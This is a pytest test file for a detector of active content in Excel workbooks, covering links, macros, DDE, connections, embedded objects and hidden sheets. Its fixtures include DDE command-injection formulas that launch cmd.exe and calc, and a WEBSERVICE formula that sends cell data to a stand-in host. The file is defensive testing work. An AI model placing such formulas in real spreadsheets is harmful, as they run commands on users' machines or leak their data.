"""What acts in a workbook is found where programs put it, and nothing is suspected that only looks like it."""

import pytest

from office.gate.archives import OFFICE, PACKAGE, sheet, small_workbook, zipped
from xltools.model.contents import Active, ActiveContent
from xltools.office.contents import active_contents
from xltools.office.workbook import Workbook

SHEET_LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
TAB = "表1 收支总表"


def links(*items: tuple[str, str, bool]) -> str:
    """Relationships: kind, target, whether it is outside."""
    inside = "".join(
        f'<Relationship Id="x{number}" Type="{OFFICE}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for number, (kind, target, outside) in enumerate(items)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'


def found(
    *more: tuple[str, str, bool], names: str = "", state: str = "", **parts: str
) -> list[ActiveContent]:
    base = small_workbook()
    known = str(base["xl/_rels/workbook.xml.rels"])
    extra = links(*more).partition(">")[2]
    base["xl/_rels/workbook.xml.rels"] = known.replace("</Relationships>", extra)
    workbook = str(base["xl/workbook.xml"]).replace(
        "</workbook>", f"<definedNames>{names}</definedNames></workbook>"
    )
    base["xl/workbook.xml"] = workbook.replace('sheetId="1"', f'sheetId="1" {state}')
    data = zipped({**base, **{name.replace("__", "/"): content for name, content in parts.items()}})
    return list(active_contents(Workbook.from_bytes(data, "x.xlsx")))


def formula(text: str) -> dict[str, str]:
    return {"xl/worksheets/sheet1.xml": sheet(f'<row r="3"><c r="B3"><f>{text}</f><v>0</v></c></row>')}


def test_nothing():
    assert found() == []


EXTERNAL = '<externalLink xmlns="urn:m"><externalBook xmlns:r="urn:r" r:id="x0"/></externalLink>'
DDE = '<externalLink xmlns="urn:m"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
OLE = '<externalLink xmlns="urn:m"><oleLink xmlns:r="urn:r" r:id="x0" progId="Package"/></externalLink>'
BOOK = ("externalLink", "externalLinks/externalLink1.xml", False)
BOOK_LINKS = {
    "xl/externalLinks/_rels/externalLink1.xml.rels": links(("externalLinkPath", "D:/去年.xlsx", True))
}
CONNECTIONS = '<connections xmlns="urn:m"><connection id="1" name="网上的表" type="4"/></connections>'


@pytest.mark.parametrize(
    ("more", "parts", "expected"),
    [
        (
            (BOOK,),
            {"xl/externalLinks/externalLink1.xml": EXTERNAL, **BOOK_LINKS},
            (Active.EXTERNAL_LINK, "D:/去年.xlsx"),
        ),
        ((BOOK,), {"xl/externalLinks/externalLink1.xml": DDE}, (Active.DDE, "cmd|/c calc")),
        ((BOOK,), {"xl/externalLinks/externalLink1.xml": OLE, **BOOK_LINKS}, (Active.DDE, "D:/去年.xlsx")),
        ((("vbaProject", "vbaProject.bin", False),), {"xl/vbaProject.bin": "x"}, (Active.MACROS, "")),
        (
            (("connections", "connections.xml", False),),
            {"xl/connections.xml": CONNECTIONS},
            (Active.CONNECTION, "网上的表"),
        ),
        (
            (("attachedTemplate", "http://a.test/t.xltm", True),),
            {},
            (Active.EXTERNAL_LINK, "http://a.test/t.xltm"),
        ),
    ],
)
def test_parts_of_the_workbook(more, parts, expected):
    assert found(*more, **parts) == [ActiveContent(*expected)]


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        (("oleObject", "../embeddings/oleObject1.bin", False), (Active.EMBEDDED_OBJECT, "oleObject1.bin")),
        (("package", "../embeddings/a.docx", False), (Active.EMBEDDED_OBJECT, "a.docx")),
        (("control", "../activeX/activeX1.xml", False), (Active.EMBEDDED_OBJECT, "activeX1.xml")),
        (("oleObject", "file:///Z:/a.docx", True), (Active.EXTERNAL_LINK, "file:///Z:/a.docx")),
        (("image", "http://a.test/1.png", True), (Active.EXTERNAL_LINK, "http://a.test/1.png")),
    ],
)
def test_parts_of_a_sheet(link, expected):
    assert found(**{SHEET_LINKS: links(link)}) == [ActiveContent(*expected, sheet=TAB)]


@pytest.mark.parametrize(
    "link",
    [
        ("hyperlink", "http://a.test/", True),
        ("drawing", "../drawings/drawing1.xml", False),
        ("ctrlProp", "../ctrlProps/ctrlProp1.xml", False),
    ],
)
def test_harmless_links(link):
    assert found(**{SHEET_LINKS: links(link)}) == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("cmd|'/c calc'!A0", Active.DDE),
        ("1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", Active.DDE),
        ("WEBSERVICE(&quot;http://a.test/&quot;&amp;A1)", Active.CONNECTION),
        ("webservice(A1)", Active.CONNECTION),
        ("RTD(&quot;prog&quot;,,A1)", Active.CONNECTION),
    ],
)
def test_formulas(text, kind):
    (content,) = found(**formula(text))
    assert (content.kind, content.sheet, content.cell) == (kind, TAB, "B3")
    assert content.shown.startswith("=")


@pytest.mark.parametrize(
    "text", ["A1&amp;&quot;cmd|'/c calc'!A0&quot;", "IF(A1&gt;0,&quot;WEBSERVICE(1)&quot;,1)", "SUM(A1:A9)"]
)
def test_formulas_that_only_look_so(text):
    assert found(**formula(text)) == []


def test_text_that_looks_like_a_formula():
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>=cmd|\'/c calc\'!A0</t></is></c></row>'
    assert found(**{"xl/worksheets/sheet1.xml": sheet(rows)}) == []


@pytest.mark.parametrize("name", ["Auto_Open", "auto_open", "_xlnm.Auto_Open", "AUTO_CLOSE2"])
def test_names_that_start_macros(name):
    (content,) = found(names=f'<definedName name="{name}">宏1!$A$1</definedName>')
    assert content == ActiveContent(Active.MACRO_SHEET, name)


def test_a_macro_sheet():
    base = {"xl/macrosheets/sheet1.xml": "<a/>"}
    contents = found(
        ("xlMacrosheet", "macrosheets/sheet1.xml", False),
        **base,
    )
    assert contents == []
    workbook = str(small_workbook()["xl/workbook.xml"]).replace(
        "</sheets>", '<sheet name="宏1" sheetId="2" r:id="x0"/></sheets>'
    )
    extra = links(("xlMacrosheet", "macrosheets/sheet1.xml", False)).partition(">")[2]
    rels = str(small_workbook()["xl/_rels/workbook.xml.rels"]).replace("</Relationships>", extra)
    data = zipped({**small_workbook(workbook=workbook, links=rels), **base})
    contents = list(active_contents(Workbook.from_bytes(data, "x.xlsx")))
    assert contents == [ActiveContent(Active.MACRO_SHEET, "宏1")]


def test_a_sheet_that_no_menu_shows():
    assert found(state='state="veryHidden"') == [ActiveContent(Active.HIDDEN_SHEET, TAB)]
    assert found(state='state="hidden"') == []


def test_long_and_strange_targets_are_cut_and_cleaned():
    (content,) = found(("image", "http://a.test/&#x202E;" + "x" * 500, True))
    assert len(content.shown) <= 81
    assert content.shown.isprintable()
